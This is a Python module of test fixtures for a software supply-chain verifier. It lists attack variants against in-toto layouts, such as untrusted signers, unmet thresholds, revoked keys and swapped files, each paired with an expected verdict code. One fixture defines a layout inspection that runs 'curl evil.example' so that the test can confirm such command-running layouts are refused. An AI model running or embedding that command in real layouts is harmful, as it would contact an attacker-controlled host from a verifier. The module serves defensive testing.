"""B10, continued: an in-toto layout with links in the place of provenance."""

from dataclasses import dataclass
from typing import Any

import layouts
from world.documents import party
from world.keys import digest
from world.pieces import Bindings, Piece
from world.registry import World

from attacks.b10_expectations import expecting
from attacks.model import Attack, Side, allowed, denied
from attestations.layout import TYPE
from attestations.predicates import NAMES

NAME = "layout.json"


@dataclass(frozen=True)
class LayoutPiece(Piece):
    """A layout with its links, signed as its own makers say."""

    raw: bytes = b""

    def make(self, bindings: Bindings) -> bytes:  # noqa: ARG002  # the same for every request
        return self.raw


def with_layout(raw: bytes | None = None, steps: tuple[str, ...] = ("build", "package"), **project: Any) -> World:
    """Return the world whose policy accepts layouts by the project alone, and in which this one is offered."""
    owner = party("project", ["layout"], **{"builder_ids": {TYPE: 3}, **project})

    def accept(policy: dict[str, Any]) -> None:
        policy["spec"]["requirements"][0].update(formats=["layout"], **{"from": ["project"]})

    world = World().with_document("policy", accept)
    world = world.with_document("trust", lambda trust: trust["spec"]["parties"].append(owner))
    chain = LayoutPiece("provenance", lambda _: {}, (), raw=layouts.chain() if raw is None else raw)
    return expecting(world, steps=list(steps)).adding(NAME, chain)


def _refused(raw: bytes, code: str) -> Side:
    return denied(with_layout(raw), 11, code)


def _step(**more: Any) -> dict[str, Any]:
    said = layouts.layout()
    said["steps"][0].update(more)
    return said


def _same_key_twice() -> bytes:
    said, other = layouts.layout(), "00" * 32
    said["keys"][other] = {**layouts.named_key("builder-1"), "keyid": other}
    said["steps"][0]["pubkeys"] = [layouts.key_id("builder-1"), other]
    return layouts.chain(said, (layouts.LINKS[0], layouts.LINKS[2]))


def _inspecting() -> dict[str, Any]:
    rules = {"expected_materials": [], "expected_products": []}
    return layouts.layout(inspect=[{"_type": "inspection", "name": "look", "run": ["curl", "evil.example"], **rules}])


def _swapped() -> dict[str, Any]:
    return {**layouts.BUILT, "signer": {"sha256": digest("swapped")}}


def _attack(variant: str, why: str, raw: bytes, code: str, allow: bytes | None = None) -> Attack:
    return Attack(variant=variant, why=why, deny=_refused(raw, code), allow=allowed(with_layout(allow)))


def _attested(change: dict[str, Any]) -> bytes:
    """The packager's link as an attestation, with members of the statement changed."""
    statement = layouts.as_statement(layouts.LINKS[2][0]) | change
    return layouts.chain(links=(*layouts.LINKS[:2], layouts.in_envelope(statement, "packager")))


_SUBJECTS = layouts.as_statement(layouts.LINKS[2][0])["subject"]


def _revoking(name: str) -> World:
    revoked = {"keys": [{"sha256": layouts.key_id(name), "reason": "the key was copied"}]}
    return with_layout().with_document("trust", lambda trust: trust["spec"].update(revoked=revoked))


def _unasked() -> World:
    return (
        World()
        .with_document(
            "trust", lambda trust: trust["spec"]["parties"].append(party("project", ["layout"], builder_ids={TYPE: 3}))
        )
        .with_piece("provenance.json", lambda _: LayoutPiece("provenance", lambda _: {}, (), raw=layouts.chain()))
    )


def _other_files() -> bytes:
    files = {name: {"sha256": digest(f"other {name}")} for name in layouts.COMPONENTS}
    links = tuple((one | {"products": files}, by) for one, by in layouts.LINKS[:2])
    return layouts.chain(links=(*links, (layouts.LINKS[2][0] | {"materials": files, "products": files}, "packager")))


def _inputs(why: str, variant: str, **link: Any) -> Attack:
    return _attack(variant, why, layouts.chain(links=layouts.replaced(2, **link)), "LAYOUT")


_TWO: dict[str, Any] = {"keys": ("project", "project-2"), "threshold": 2}

ATTACKS = (
    _attack(
        "layout-by-somebody",
        "The layout is signed by a builder that it names, not by the owner of the project.",
        layouts.chain(owners=("builder-1",)),
        "SIG-UNTRUSTED",
    ),
    _attack(
        "layout-by-a-party-that-may-not",
        "The layout is signed by a party of the trust root that may sign provenance, and no layouts.",
        layouts.chain(owners=("ci-builder",)),
        "SIG-ROLE",
    ),
    Attack(
        variant="layout-below-its-threshold",
        why="Two owners of the project must sign its layouts; one did.",
        deny=denied(with_layout(**_TWO), 11, "SIG-THRESHOLD"),
        allow=allowed(with_layout(layouts.chain(owners=("project", "project-2")), **_TWO)),
    ),
    Attack(
        variant="layout-by-a-retired-key",
        why="The key of the owner is no longer in use: a layout says no time at which it was signed.",
        deny=denied(with_layout(valid_until="2026-04-10T11:00:00Z"), 11, "SIG-UNTRUSTED"),
        allow=allowed(with_layout(valid_until="2026-04-10T13:00:00Z")),
    ),
    _attack(
        "layout-expired",
        "The layout expired: its owner may have replaced it since.",
        layouts.chain(layouts.layout(expires="2026-04-10T11:59:59Z")),
        "EVID-STALE",
    ),
    _attack(
        "layout-that-runs-commands",
        "The layout has an inspection: a command that a verifier would run on the host.",
        layouts.chain(_inspecting()),
        "LAYOUT",
    ),
    _attack(
        "layout-without-steps",
        "The layout has no steps: everything was done as nobody asked.",
        layouts.chain(layouts.layout(steps=[]), ()),
        "LAYOUT",
    ),
    _attack(
        "layout-without-disallow",
        "The rules of a step do not end in DISALLOW *: what none of them names passes.",
        layouts.chain(_step(expected_products=[["ALLOW", "signer"]])),
        "LAYOUT",
    ),
    _attack(
        "layout-with-one-key-twice",
        "One builder's key stands in the layout under two ids, and meets a threshold of two alone.",
        _same_key_twice(),
        "SIG-THRESHOLD",
    ),
    _attack(
        "layout-with-one-builder-of-two",
        "One of the two builders whose agreement the layout asks for did not build.",
        layouts.chain(links=layouts.LINKS[1:]),
        "SIG-THRESHOLD",
    ),
    _attack(
        "layout-with-a-foreign-link",
        "A link is signed by a key of another step.",
        layouts.chain(links=(*layouts.LINKS[:2], (layouts.LINKS[2][0], "builder-1"))),
        "SIG-UNTRUSTED",
    ),
    Attack(
        variant="layout-with-a-revoked-functionary",
        why="The packager's key was copied, and the trust root has taken it back; the layout still names it.",
        deny=denied(_revoking("packager"), 11, "SIG-UNTRUSTED"),
        allow=allowed(_revoking("somebody")),
    ),
    _attack(
        "layout-with-another-attestation-for-a-link",
        "The packager's test results stand in the place of the link that says what the packager did.",
        _attested({"predicateType": NAMES["test-result"], "predicate": {"result": "PASSED", "configuration": []}}),
        "SCHEMA",
    ),
    _attack(
        "layout-with-a-link-of-two-files-of-one-name",
        "A link as an attestation has two subjects of one name: which of them is handed on depends on the reader.",
        _attested({"subject": [*_SUBJECTS, {"name": "signer", "digest": {"sha256": digest("swapped")}}]}),
        "SCHEMA",
        _attested({}),
    ),
    _inputs("The step that made the release failed.", "layout-step-failed", byproducts={"return-value": 3}),
    _inputs("Between two steps, somebody swapped a file.", "layout-material-swapped", materials=_swapped()),
    _inputs("The last step handed on another file than it was given.", "layout-product-swapped", products=_swapped()),
    _attack(
        "layout-other-command",
        "A builder ran another command than the layout expects.",
        layouts.chain(links=layouts.replaced(0, command=["make", "SKIP_TESTS=1"])),
        "LAYOUT",
    ),
    Attack(
        variant="layout-without-an-expected-step",
        why="The owner's layout has no step in which the release is tested, which the policy asks for.",
        deny=denied(with_layout(steps=("build", "test", "package")), 10, "PROV-EXPECT"),
        allow=allowed(with_layout()),
    ),
    Attack(
        variant="layout-of-a-lower-level",
        why="The trust root grants layouts of this owner level 2; the policy asks level 3.",
        deny=denied(with_layout(builder_ids={TYPE: 2}), 10, "PROV-EXPECT"),
        allow=allowed(with_layout()),
    ),
    Attack(
        variant="layout-of-anything",
        why="The policy accepts layouts and names no step that one must have.",
        deny=denied(with_layout(steps=()).signed_off_by(), 2, "POL-REF"),
        allow=allowed(with_layout()),
    ),
    Attack(
        variant="layout-where-provenance-is-asked",
        why="The policy asks for provenance by a builder; what is offered is a layout by the project itself.",
        deny=denied(_unasked(), 11, "EVID-MISSING", "SRC-REVIEW"),
        allow=allowed(with_layout()),
    ),
    _attack(
        "layout-of-other-files",
        "The layout was followed, and what came out are other files than those of the release.",
        _other_files(),
        "SUBJ-DIGEST",
    ),
)
